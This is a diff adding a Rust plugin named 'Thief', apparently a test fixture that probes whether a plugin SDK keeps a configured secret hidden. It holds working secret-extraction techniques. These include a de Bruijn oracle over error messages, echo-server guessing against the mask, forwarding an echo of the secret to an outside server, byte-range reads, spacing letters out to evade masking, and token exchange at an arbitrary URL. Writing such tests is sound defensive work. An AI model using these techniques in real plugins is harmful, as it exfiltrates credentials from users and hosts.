@@ -1,0 +1,290 @@
+//! A bundle that tries to learn its secret: from the host's messages, from what is masked, from bodies that it passes
+//! on, from parts and compressed answers, from tokens that it signs.
+
+use std::collections::BTreeMap;
+
+use blockyard_sdk::http::{self, Client, TokenSource};
+use blockyard_sdk::prelude::*;
+use blockyard_sdk::serde_json;
+
+/// A server, and a secret for it.
+#[derive(Block)]
+#[block(type = "courier-thief", version = 1, title = "Thief")]
+pub struct Thief {
+    /// Where requests go.
+    base_url: String,
+    /// Another server, outside of the secret's audience.
+    other_url: Option<String>,
+    /// Where tokens come from.
+    #[allow(dead_code, reason = "a URL that the schema names")]
+    token_url: Option<String>,
+    /// For the server.
+    #[block(audience = "{config.base_url}", header = "authorization x-api-key")]
+    token: Secret<String>,
+    /// For the token server.
+    #[block(audience = "{config.base_url}", token = "{config.token_url}")]
+    key: Option<Secret<String>>,
+}
+
+/// How a guess gets into an answer.
+#[data]
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+enum Via {
+    /// In the path, which the server echoes.
+    #[default]
+    Path,
+    /// In a header.
+    Header,
+    /// In the body.
+    Body,
+    /// In two headers, which the server joins.
+    Split,
+    /// Turned around, which the server undoes.
+    Reversed,
+}
+
+/// How a body is passed on.
+#[data]
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+enum How {
+    /// As it is.
+    #[default]
+    Whole,
+    /// After its first byte was read.
+    Begun,
+    /// In parts.
+    Parts,
+    /// In parts, each sent twice.
+    Again,
+}
+
+#[operations]
+impl Thief {
+    /// Asks the host for secrets at places whose names hold every possible secret.
+    #[operation(read)]
+    fn oracle(
+        &self,
+        /// The characters of the secret.
+        alphabet: String,
+        /// Their number.
+        length: usize,
+    ) -> Result<Option<String>> {
+        let text = sequence(alphabet.as_bytes(), length);
+        let quoted = |from: usize, to: usize| {
+            let pointer = String::from_utf8_lossy(&text[from..to]).into_owned();
+            let secret: Secret<String> = serde_json::from_value(json!({ "$secret": format!("/{pointer}") }))
+                .map_err(|error| Problem::invalid(error.to_string()))?;
+            Ok::<_, Problem>(secret.handle().err().map(|problem| problem.to_string()).unwrap_or_default())
+        };
+        for from in (0..text.len()).step_by(1 << 20) {
+            let to = (from + (1 << 20) + length).min(text.len());
+            let said = quoted(from, to)?;
+            if let Some(at) = said.find("********") {
+                return Ok(Some(spelled(&said[..at])));
+            }
+        }
+        // A message is cut: each guess alone, too.
+        for window in text.windows(length).take(20_000) {
+            let pointer = String::from_utf8_lossy(window);
+            let secret: Secret<String> = serde_json::from_value(json!({ "$secret": format!("/{pointer}") }))
+                .map_err(|error| Problem::invalid(error.to_string()))?;
+            if secret.handle().err().is_some_and(|problem| problem.to_string().contains("********")) {
+                return Ok(Some(spelled(&pointer)));
+            }
+        }
+        Ok(None)
+    }
+
+    /// Sends guesses to a server that echoes, and looks which echo is masked.
+    #[operation(read)]
+    fn guess(
+        &self,
+        /// The guesses.
+        guesses: Vec<String>,
+        /// How they are sent.
+        #[serde(default)]
+        via: Via,
+        /// Whether the secret goes along.
+        #[serde(default)]
+        auth: bool,
+    ) -> Result<Option<String>> {
+        for guess in guesses {
+            let (half, rest) = guess.split_at(guess.len() / 2);
+            let reversed: String = guess.chars().rev().collect();
+            let base = &self.base_url;
+            let request = match via {
+                Via::Path => http::get(format!("{base}/echo/{guess}")),
+                Via::Header => http::get(format!("{base}/header")).header("x-guess", &guess),
+                Via::Body => http::get(format!("{base}/body")).body(Body::from_bytes("text/plain", guess.as_bytes())),
+                Via::Split => http::get(format!("{base}/joined")).header("x-a", half).header("x-b", rest),
+                Via::Reversed => http::get(format!("{base}/reversed")).header("x-guess", reversed),
+            };
+            let request = if auth { request.bearer(&self.token) } else { request };
+            let answer = request.send()?.text()?;
+            if answer.contains("********") && !answer.contains(&guess) {
+                return Ok(Some(spelled(&guess)));
+            }
+        }
+        Ok(None)
+    }
+
+    /// Gets an echo of the secret and passes it on to another server.
+    #[operation(write)]
+    fn bounce(
+        &self,
+        /// The path of the echo.
+        path: String,
+        /// Where it goes, on the other server.
+        to: String,
+        /// How.
+        #[serde(default)]
+        how: How,
+        /// Headers of the request for the echo.
+        #[serde(default)]
+        headers: BTreeMap<String, String>,
+    ) -> Result<u16> {
+        let mut request = http::get(format!("{}{path}", self.base_url)).bearer(&self.token);
+        for (name, value) in headers {
+            request = request.header(name, value);
+        }
+        let echo = request.send()?.body;
+        let send =
+            |body| http::post(format!("{}{to}", self.other_url.as_deref().unwrap_or_default())).body(body).send();
+        let mut status = 0;
+        match how {
+            How::Whole => status = send(echo)?.status,
+            How::Begun => {
+                echo.read(1)?;
+                status = send(echo)?.status;
+            }
+            How::Parts | How::Again => {
+                while let Some(part) = echo.take(5)? {
+                    if how == How::Again {
+                        send(part.again()?)?;
+                    }
+                    status = send(part)?.status;
+                }
+            }
+        }
+        Ok(status)
+    }
+
+    /// Asks for an echo byte by byte.
+    #[operation(read)]
+    fn range(
+        &self,
+        /// The path of the echo.
+        path: String,
+        /// Bytes.
+        count: u64,
+    ) -> Result<String> {
+        let mut all = String::new();
+        for at in 0..count {
+            let request = http::get(format!("{}{path}", self.base_url)).bearer(&self.token);
+            all.push_str(&request.header("range", format!("bytes={at}-{at}")).send()?.text()?);
+            all.push(' ');
+        }
+        Ok(all)
+    }
+
+    /// Gets something with the secret in a header of this name.
+    #[operation(read)]
+    fn in_header(
+        &self,
+        /// The path.
+        path: String,
+        /// The header.
+        header: String,
+    ) -> Result<String> {
+        http::get(format!("{}{path}", self.base_url)).secret_header(header, &self.token).send()?.text()
+    }
+
+    /// Exchanges the key for a token, somewhere.
+    #[operation(read)]
+    fn exchange(
+        &self,
+        /// Where.
+        token_url: String,
+        /// In whose name.
+        client_id: String,
+    ) -> Result<u16> {
+        let key = self.key.as_ref().ok_or_else(|| Problem::invalid("there is no key"))?;
+        let client = Client { token_url: &token_url, client_id: &client_id, scopes: &[] };
+        let source = TokenSource::client_credentials(&client, key);
+        Ok(http::get(self.base_url.as_str()).token(source).send()?.status)
+    }
+
+    /// All that an answer says of its length.
+    #[operation(read)]
+    fn length(
+        &self,
+        /// The path.
+        path: String,
+    ) -> Result<Vec<String>> {
+        let answer = http::get(format!("{}{path}", self.base_url)).bearer(&self.token).send()?;
+        let size = answer.body.size().map(|size| size.to_string());
+        let told = ["content-length", "content-range", "digest", "content-md5"];
+        Ok(told.iter().filter_map(|name| answer.header(name).map(str::to_owned)).chain(size).collect())
+    }
+
+    /// Says what it was told to say.
+    #[operation(read)]
+    fn say(
+        &self,
+        /// What.
+        text: String,
+        /// As a problem.
+        #[serde(default)]
+        fail: bool,
+    ) -> Result<String> {
+        blockyard_sdk::log::warn(&text);
+        if fail { Err(Problem::invalid(text)) } else { Ok(text) }
+    }
+
+    /// Looks for its secret while its output is read.
+    #[operation(read)]
+    fn guess_in_parts(
+        &self,
+        /// The guesses.
+        guesses: Vec<String>,
+    ) -> Result<InParts<u32>> {
+        let base = self.base_url.clone();
+        let mut guesses = guesses.into_iter();
+        let parts = Parts::new(move || {
+            let Some(guess) = guesses.next() else { return Ok(None) };
+            let masked = http::get(format!("{base}/echo/{guess}")).send()?.text()?.contains("********");
+            Ok(Some(Body::from_bytes("text/plain", if masked { b"yes" } else { b"no " })))
+        });
+        Ok(InParts { result: 0, parts })
+    }
+}
+
+/// A text with blanks between its letters, which nothing masks.
+fn spelled(text: &str) -> String {
+    text.chars().rev().take(12).map(String::from).collect::<Vec<_>>().join(" ")
+}
+
+/// A text in which every text of such letters and such a length stands (de Bruijn).
+fn sequence(alphabet: &[u8], length: usize) -> Vec<u8> {
+    fn step(alphabet: &[u8], length: usize, at: usize, period: usize, word: &mut [usize], text: &mut Vec<u8>) {
+        if at > length {
+            if length % period == 0 {
+                text.extend(word[1..=period].iter().map(|letter| alphabet[*letter]));
+            }
+            return;
+        }
+        word[at] = word[at - period];
+        step(alphabet, length, at + 1, period, word, text);
+        for letter in word[at - period] + 1..alphabet.len() {
+            word[at] = letter;
+            step(alphabet, length, at + 1, at, word, text);
+        }
+    }
+    let mut text = Vec::new();
+    step(alphabet, length, 1, 1, &mut vec![0; alphabet.len() * length + 1], &mut text);
+    let wrapped: Vec<u8> = text.iter().take(length - 1).copied().collect();
+    text.extend(wrapped);
+    text
+}
